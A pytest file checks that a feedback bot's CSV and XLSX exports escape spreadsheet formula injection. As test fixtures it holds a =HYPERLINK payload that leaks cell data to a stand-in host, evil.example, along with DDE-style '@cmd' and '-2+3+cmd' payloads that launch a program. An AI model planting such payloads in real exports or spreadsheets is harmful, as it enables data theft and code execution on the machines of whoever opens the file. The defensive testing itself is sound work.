"""Feedback and audit exports open in spreadsheets as text: a citizen's "=HYPERLINK(…)" or a
display name "@cmd" must not run as a formula, in CSV as in XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli.export_cells import FORMULA_STARTS, safe_cell
from bot.cli.staff import EXPORT_COLUMNS, feedback_csv, write_feedback_xlsx
from storage.feedback import FeedbackExportRow
from storage.store import Store

HOSTILE_TEXT = '=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết")'
HOSTILE_NAME = "@cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
def test_every_formula_start_is_kept_as_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert safe_cell("Đường hỏng ở thôn 3") == "Đường hỏng ở thôn 3"
    assert safe_cell(42) == 42 and safe_cell(None) is None and safe_cell("") == ""


async def _rows(store: Store) -> list[FeedbackExportRow]:
    sub, _ = await store.subscribers.subscribe("telegram", "501", display_name=HOSTILE_NAME)
    await store.feedback.add(sub.id, None, HOSTILE_TEXT)
    await store.feedback.add(sub.id, None, "-2+3+cmd|' /C calc'!A0")
    await store.feedback.add(sub.id, None, "\t=1+1")
    return await store.feedback.export_rows()


def _formula_like(cell: object) -> bool:
    return isinstance(cell, str) and cell[:1] in FORMULA_STARTS


async def test_csv_export_keeps_hostile_cells_as_text(store: Store) -> None:
    data = feedback_csv(await _rows(store))
    header, *records = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    assert header == EXPORT_COLUMNS
    name, text = EXPORT_COLUMNS.index("name"), EXPORT_COLUMNS.index("text")
    assert records[0][name] == "'" + HOSTILE_NAME and records[0][text] == "'" + HOSTILE_TEXT
    assert [r[text] for r in records[1:]] == ["'-2+3+cmd|' /C calc'!A0", "'\t=1+1"]
    assert not any(_formula_like(cell) for r in records for cell in r)


async def test_xlsx_export_keeps_hostile_cells_as_text(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "phan-hoi.xlsx"
    write_feedback_xlsx(await _rows(store), path)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    name, text = EXPORT_COLUMNS.index("name"), EXPORT_COLUMNS.index("text")
    first = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first[name] == "'" + HOSTILE_NAME and first[text] == "'" + HOSTILE_TEXT
    assert not any(_formula_like(c.value) for c in cells)
